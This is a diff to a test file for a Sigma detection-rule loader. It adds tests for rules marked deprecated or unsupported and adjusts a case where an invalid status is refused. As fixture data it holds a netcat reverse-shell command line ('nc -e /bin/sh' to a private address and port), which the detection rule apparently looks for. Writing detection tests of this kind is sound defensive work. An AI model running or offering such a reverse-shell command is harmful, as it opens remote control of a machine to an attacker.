@@ -96,11 +96,18 @@ describe('a Sigma file, unchanged', () => {
     expect(alerts('echo "nc -e /bin/sh"')).toEqual([]);
   });
 
+  it.each(['deprecated', 'unsupported'])('is loaded and judges nothing when it is %s', (status) => {
+    const parsed = parseDetection(SIGMA.replace('status: test', `status: ${status}`), 'nc.yml', TOOLS);
+    if ('reason' in parsed) throw new Error(parsed.reason);
+    const events = eventsOf(Fixture.parse({ commandLine: 'nc -e /bin/sh 10.0.0.1 4444' }), TOOLS.hash128);
+    expect(backtest([events], { ...TOOLS, rules: [parsed.rule] })).toEqual([]);
+  });
+
   it.each([
     { name: 'a source that agents do not have', written: SIGMA.replace('process_creation', 'registry_set'), says: /^x\.yaml:9: logsource\.category/ },
     { name: 'a correlation', written: `${SIGMA}\ncorrelation: { type: event_count }\n`, says: /correlation/ },
     { name: 'a modifier that is not Sigma', written: SIGMA.replace('Image|endswith', 'Image|endsin'), says: /^x\.yaml:12: / },
-    { name: 'an unsupported status', written: SIGMA.replace('status: test', 'status: unsupported'), says: /^x\.yaml:4: status/ },
+    { name: 'a status that is not Sigma', written: SIGMA.replace('status: test', 'status: unheard'), says: /^x\.yaml:4: status/ },
   ])('is refused for $name', ({ written, says }) => {
     expect(problemOf(written)).toMatch(says);
   }); // prettier-ignore
